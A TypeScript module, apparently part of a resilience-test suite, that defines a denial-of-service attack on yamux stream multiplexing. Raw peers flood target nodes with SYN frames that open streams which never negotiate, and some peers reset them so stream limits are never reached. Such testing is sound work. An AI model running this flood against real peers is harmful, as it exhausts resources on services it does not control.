// Streams that are opened and never say what for.
import { type Attack } from '../attack.ts'
import { crowd, pick, strangerAddress } from '../support/crowd.ts'
import { sendAll, withRawPeer } from '../support/raw-peer.ts'
import { YAMUX_FLAG, YAMUX_TYPE, yamuxFrame } from '../support/yamux-frames.ts'

const STRANGERS = 8
const STREAMS_PER_WRITE = 32

/** One in two writes resets what it opened, so that no bound on open streams is reached. */
export const STREAM_OPENS: Attack = {
  name: 'stream-opens',
  group: 'muxer',
  title: 'streams opened without end, none of which negotiates',
  async run({ nodes }, tools) {
    const { signal, did } = tools
    await crowd(tools, STRANGERS, async (stranger) => {
      const { multiaddr } = pick(nodes, stranger)
      const localAddress = strangerAddress(stranger)
      await withRawPeer({ multiaddr, localAddress, signal }, async (connection) => {
        for (let next = 1; !signal.aborted; next += 2 * STREAMS_PER_WRITE) {
          const streams = Array.from({ length: STREAMS_PER_WRITE }, (_, at) => next + 2 * at)
          const frames = (flags: number) =>
            streams.map((stream) => yamuxFrame({ type: YAMUX_TYPE.windowUpdate, flags, stream }))
          await sendAll(connection, Buffer.concat(frames(YAMUX_FLAG.syn)), signal)
          did('streams', STREAMS_PER_WRITE)
          if (Math.floor(stranger / nodes.length) % 2 === 0) continue
          await sendAll(connection, Buffer.concat(frames(YAMUX_FLAG.rst)), signal)
        }
      })
    })
  }
}
